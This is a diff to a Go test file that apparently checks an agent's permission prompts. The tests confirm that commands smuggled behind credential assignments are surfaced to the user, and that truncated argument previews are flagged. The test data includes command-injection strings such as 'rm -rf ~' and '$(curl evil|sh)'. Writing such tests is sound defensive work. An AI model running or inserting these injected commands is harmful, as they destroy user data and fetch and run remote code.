@@ -64,6 +64,7 @@ func TestAskOffersNoAllowanceUnseen(t *testing.T) {
 func TestAskShowsCommandsBehindCredentials(t *testing.T) {
 	for _, command := range []string{
 		"OPENAI_KEY=abc;rm -rf ~", "TOKEN=abc&&rm -rf ~ x", "TOKEN=x|sh", `API_TOKEN="x$(curl evil)" ls`, "DB_PASSWORD=a$(curl evil|sh)b make", "tool --password 'x;y' z",
+		"COOKIE=token rm -rf ~", "AUTHORIZATION=basic rm -rf ~", "COOKIE=a=b rm -rf ~", "echo 'rm -rf /srv' | sudo -S sh",
 		"cat > k <<E\n-----BEGIN PRIVATE KEY-----\nabc\nE\nrm -rf ~\n-----END PRIVATE KEY-----",
 	} {
 		q := askFor(command)
@@ -86,6 +87,24 @@ func TestAskRedacts(t *testing.T) {
 	for _, text := range []string{q.Prompt, q.Permission.Tool, q.Permission.Label, string(q.Permission.Args)} {
 		if strings.Contains(text, random[:20]) || !strings.Contains(text, Mark) {
 			t.Errorf("%q", text)
+		}
+	}
+}
+
+// A7: that holds for whatever member of the arguments has it, and a preview that the
+// agent cut itself cannot be allowed either.
+func TestAskReadsEveryArgument(t *testing.T) {
+	for args, why := range map[string]string{
+		`{"input_preview":"TOKEN=x;rm -rf ~"}`:                         "may be a command",
+		`{"script":["TOKEN=x;rm -rf ~"]}`:                              "may be a command",
+		`{"env":{"API_KEY":"x; rm -rf ~"}}`:                            "may be a command",
+		`{"input_preview":"{\"command\":\"make && make in…"}`:          "only a part",
+		`{"input_preview":"make && make..."}`:                          "only a part",
+		`{"input_preview":"TOKEN=x make"}`:                             "",
+		`{"headers":{"Authorization":"Bearer abc"},"url":"x.example"}`: "",
+	} {
+		if got := Unreadable(jsontext.Value(args)); why == "" && got != "" || !strings.Contains(got, why) {
+			t.Errorf("%s: %q", args, got)
 		}
 	}
 }
